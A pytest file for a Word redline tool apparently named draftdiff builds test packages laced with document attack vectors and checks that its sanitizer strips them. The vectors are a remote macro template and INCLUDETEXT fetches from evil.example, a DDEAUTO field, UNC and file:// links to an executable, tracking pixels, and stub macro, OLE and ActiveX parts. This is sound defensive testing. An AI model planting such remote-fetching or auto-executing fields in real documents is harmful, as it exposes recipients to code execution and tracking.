"""The in-place redline forwards a stranger's package: nothing in it that runs
or fetches may leave with it. Every package here is built from our own bytes."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from conftest import run_cli

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships"
NS = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
# a 1x1 PNG: the package's own picture, which stays
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def _p(body: str) -> str:
    return f"<w:p>{body}</w:p>"


def _r(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _drawing(attribute: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="p"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        f'<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attribute}/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def _rels(*rels: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{"".join(rels)}</Relationships>'.encode()


def hostile_docx(words: list[str], *, main_type: str = MACRO_MAIN) -> bytes:
    """A Word package whose numbered paragraphs are ``words``, carrying every
    kind of active or remote content the redline must not forward."""
    paragraphs = [_p(_r("Hostile package"))]
    for n, text in enumerate(words, start=1):
        paragraphs.append(_p(_r(f"{n}. {text}")))
    paragraphs += [
        _p(
            _r("See ")
            + f'<w:hyperlink r:id="rIdSafe" w:tooltip="https://trusted.example/">{_r("the safe link")}</w:hyperlink>'
            + _r(" and ")
            + f'<w:hyperlink r:id="rIdFile">{_r("the file link")}</w:hyperlink>'
            + _r(".")
        ),
        _p(_r("A remote picture:") + _drawing('r:link="rIdRemoteImage"')),
        _p(_r("Our own picture:") + _drawing('r:embed="rIdImage"')),
        '<w:altChunk r:id="rIdChunk"/>',
        _p(
            _r("An object:")
            + '<w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rIdOle"/>'
            "</w:object></w:r>" + '<w:r><w:object><w:control r:id="rIdControl" w:name="CheckBox1"/></w:object></w:r>'
        ),
        _p(
            _r("Included: ")
            + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "http://evil.example/x.docx" </w:instrText></w:r>'
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + _r("included words")
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        _p(
            _r("Linked: ")
            + f'<w:fldSimple w:instr=" DDEAUTO excel &quot;C:\\\\x.xls&quot; ">{_r("dde words")}</w:fldSimple>'
        ),
        _p(
            _r("Shares: ")
            + f'<w:fldSimple w:instr=" HYPERLINK &quot;\\\\\\\\evil.example\\\\share&quot; ">{_r("the share")}</w:fldSimple>'
            + _r(" and ")
            + f'<w:fldSimple w:instr=" HYPERLINK &quot;https://example.org/field&quot; ">{_r("the web")}</w:fldSimple>'
        ),
        _p(
            _r("Page ")
            + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + _r("1")
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ]
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS}><w:body>{"".join(paragraphs)}</w:body></w:document>'
    )
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings {NS}><w:attachedTemplate r:id="rIdTemplate"/>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM secrets"/></w:mailMerge>'
        "</w:settings>"
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Default Extension="mht" ContentType="message/rfc822"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        '<Override PartName="/word/settings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
        '<Override PartName="/word/embeddings/oleObject1.bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        '<Override PartName="/word/activeX/activeX1.bin" ContentType="application/vnd.ms-office.activeX"/>'
        "</Types>"
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _rels(_rel("rId1", f"{RT}/officeDocument", "word/document.xml")),
        "word/document.xml": document.encode(),
        "word/settings.xml": settings.encode(),
        "word/_rels/document.xml.rels": _rels(
            _rel("rIdSettings", f"{RT}/settings", "settings.xml"),
            _rel("rIdVba", f"{MS_RT}/vbaProject", "vbaProject.bin"),
            _rel("rIdChunk", f"{RT}/aFChunk", "afchunk.mht"),
            _rel("rIdRemoteImage", f"{RT}/image", "http://tracker.example/pixel.png", external=True),
            _rel("rIdImage", f"{RT}/image", "media/image1.png"),
            _rel("rIdSafe", f"{RT}/hyperlink", "https://example.org/page", external=True),
            _rel("rIdFile", f"{RT}/hyperlink", "file://///evil.example/share/x.exe", external=True),
            _rel("rIdOle", f"{RT}/oleObject", "embeddings/oleObject1.bin"),
            _rel("rIdControl", f"{RT}/control", "activeX/activeX1.xml"),
        ),
        "word/_rels/settings.xml.rels": _rels(
            _rel("rIdTemplate", f"{RT}/attachedTemplate", "http://evil.example/template.dotm", external=True)
        ),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project",
        "word/_rels/vbaProject.bin.rels": _rels(_rel("rId1", f"{MS_RT}/wordVbaData", "vbaData.xml")),
        "word/vbaData.xml": b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><img src='http://tracker.example/x'></html>",
        "word/media/image1.png": PNG,
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole",
        "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>',
        "word/activeX/_rels/activeX1.xml.rels": _rels(_rel("rId1", f"{MS_RT}/activeXControlBinary", "activeX1.bin")),
        "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 activex",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


OLD = ["We recall the Charter.", "States shall cooperate.", "We note the report."]
NEW = ["We recall the Charter of the United Nations.", "States shall cooperate.", "We note the report."]


def _redline(
    tmp_path: Path, *, new_name: str = "new.docx", main_type: str = MACRO_MAIN
) -> tuple[dict[str, bytes], str]:
    old = tmp_path / "old.docx"
    new = tmp_path / new_name
    old.write_bytes(hostile_docx(OLD, main_type=main_type))
    new.write_bytes(hostile_docx(NEW, main_type=main_type))
    target = tmp_path / "redline.docx"
    result = run_cli("export", str(old), str(new), "-o", str(target))
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(target) as archive:
        return {name: archive.read(name) for name in archive.namelist()}, result.stderr


def _all_rels(parts: dict[str, bytes]) -> list[etree._Element]:
    return [
        rel
        for name, data in parts.items()
        if name.endswith(".rels")
        for rel in etree.fromstring(data).iter(f"{{{REL_NS}}}Relationship")
    ]


def test_the_redline_keeps_no_remote_relationship_but_a_web_link(tmp_path):
    parts, _ = _redline(tmp_path)
    external = [(rel.get("Type"), rel.get("Target")) for rel in _all_rels(parts) if rel.get("TargetMode") == "External"]
    assert external == [(f"{RT}/hyperlink", "https://example.org/page")]
    settings = parts["word/settings.xml"].decode()
    assert "attachedTemplate" not in settings and "mailMerge" not in settings and "secrets" not in settings


def test_the_redline_keeps_no_macro_altchunk_ole_or_activex_part(tmp_path):
    parts, _ = _redline(tmp_path)
    assert not [name for name in parts if re.search(r"vba|afchunk|oleObject|activeX|embeddings", name, re.I)]
    internal = {rel.get("Type").rpartition("/")[2] for rel in _all_rels(parts) if rel.get("TargetMode") != "External"}
    # extended-properties: docProps/app.xml, where draftdiff marks what it wrote (provenance.py)
    assert internal == {"officeDocument", "settings", "image", "extended-properties"}
    assert "word/media/image1.png" in parts  # the package's own picture stays
    types = parts["[Content_Types].xml"].decode()
    assert "macroEnabled" not in types and "vbaProject" not in types and "activeX" not in types
    assert "oleObject" not in types and PLAIN_MAIN in types
    for override in re.findall(r'PartName="/([^"]+)"', types):
        assert override in parts


def test_the_redline_documents_elements_lose_what_they_pointed_at_and_keep_their_words(tmp_path):
    parts, _ = _redline(tmp_path)
    document = parts["word/document.xml"].decode()
    root = etree.fromstring(parts["word/document.xml"])
    ids = {value for element in root.iter() for key, value in element.attrib.items() if key.startswith(f"{{{R_NS}}}")}
    assert ids == {"rIdSafe", "rIdImage"}
    assert "altChunk" not in document and "w:object" not in document and "OLEObject" not in document
    assert "INCLUDETEXT" not in document and "DDEAUTO" not in document
    words = "".join(t.text or "" for t in root.iter(f"{{{W_NS}}}t"))
    for kept in ("the safe link", "the file link", "included words", "dde words", "Page 1"):
        assert kept in words
    assert " PAGE " in document  # a field that fetches nothing stays a field
    assert "evil.example" not in document and "the share" in words  # a link to a file share: its words stay
    assert "https://example.org/field" in document  # a web link stays
    (link,) = root.iter(f"{{{W_NS}}}hyperlink")
    assert link.get(f"{{{W_NS}}}tooltip") == "https://example.org/page"  # the reader sees where it leads
    assert root.find(f".//{{{W_NS}}}ins") is not None  # marked in place, not the generated redline


def test_what_was_left_out_is_said_in_one_line(tmp_path):
    _, stderr = _redline(tmp_path)
    lines = [line for line in stderr.splitlines() if "left out of the redline" in line]
    assert len(lines) == 1 and lines[0].startswith("draftdiff: warning: ")
    for what in (
        "remote template",
        "remote image",
        "macro project",
        "altChunk",
        "OLE object",
        "ActiveX",
        "INCLUDETEXT",
    ):
        assert what in lines[0]


def test_a_docm_renamed_docx_gives_a_plain_docx_that_python_docx_opens(tmp_path):
    docx = pytest.importorskip("docx")
    parts, _ = _redline(tmp_path, new_name="renamed.docx")
    assert MACRO_MAIN.encode() not in parts["[Content_Types].xml"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    buffer.seek(0)
    text = "\n".join(p.text for p in docx.Document(buffer).paragraphs)
    assert "We recall the Charter" in text


def test_a_clean_package_passes_unchanged_and_silently(tmp_path):
    from draftdiff.writers import package_clean

    plain = zipfile.ZipFile(io.BytesIO(hostile_docx(NEW, main_type=PLAIN_MAIN)))
    parts = {name: plain.read(name) for name in plain.namelist()}
    safe = {
        "[Content_Types].xml": parts["[Content_Types].xml"],
        "_rels/.rels": parts["_rels/.rels"],
        "word/document.xml": f"<w:document {NS}><w:body>{_p(_r('1. Words.'))}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": _rels(_rel("rIdImage", f"{RT}/image", "media/image1.png")),
        "word/media/image1.png": PNG,
    }
    cleaned = package_clean.clean(safe)
    assert cleaned.summary() == ""
    assert cleaned.parts == {**safe, "[Content_Types].xml": cleaned.parts["[Content_Types].xml"]}


def test_the_revert_proposal_carries_nothing_of_the_drafts_packages(tmp_path):
    first, second = tmp_path / "first.docx", tmp_path / "second.docx"
    first.write_bytes(hostile_docx(OLD))
    second.write_bytes(hostile_docx(NEW))
    target = tmp_path / "revert.docx"
    result = run_cli("history", str(first), str(second), "--para", "1", "--revert-to", "first", "-o", str(target))
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(target) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not [rel for rel in _all_rels(parts) if rel.get("TargetMode") == "External"]
    assert not [name for name in parts if re.search(r"vba|chunk|oleObject|activeX|embeddings", name, re.I)]
    assert not re.search(rb"INCLUDE|DDE|altChunk|w:object", b"".join(parts.values()))


def _complex(instruction: str, result: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _r(result) + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def test_nested_fields_go_with_the_fetching_field_that_holds_them_and_only_then():
    from draftdiff.writers import package_clean

    inner_fetching = (  # { IF { INCLUDETEXT "x" } = "" "empty" "full" }: the IF stays, the INCLUDETEXT goes
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
        + _complex(' INCLUDETEXT "http://evil.example/x" ', "inner")
        + '<w:r><w:instrText xml:space="preserve"> = "" "empty" "full" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _r("full") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    outer_fetching = (  # { INCLUDETEXT "{ FILENAME }" }: the nested FILENAME goes with it
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "</w:instrText></w:r>'
        + _complex(" FILENAME ", "name.docx")
        + '<w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _r("kept result")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    document = f"<w:document {NS}><w:body>{_p(inner_fetching)}{_p(outer_fetching)}</w:body></w:document>"
    cleaned = package_clean.clean({"word/document.xml": document.encode()})
    root = etree.fromstring(cleaned.parts["word/document.xml"])
    first, second = root.iter(f"{{{W_NS}}}p")
    assert [t.text for t in first.iter(f"{{{W_NS}}}instrText")] == [" IF ", ' = "" "empty" "full" ']
    assert "".join(t.text for t in first.iter(f"{{{W_NS}}}t")) == "innerfull"
    assert [f.get(f"{{{W_NS}}}fldCharType") for f in first.iter(f"{{{W_NS}}}fldChar")] == ["begin", "separate", "end"]
    assert not list(second.iter(f"{{{W_NS}}}instrText")) and not list(second.iter(f"{{{W_NS}}}fldChar"))
    assert "".join(t.text for t in second.iter(f"{{{W_NS}}}t")) == "kept result"
    assert cleaned.summary() == "INCLUDETEXT field (×2)"
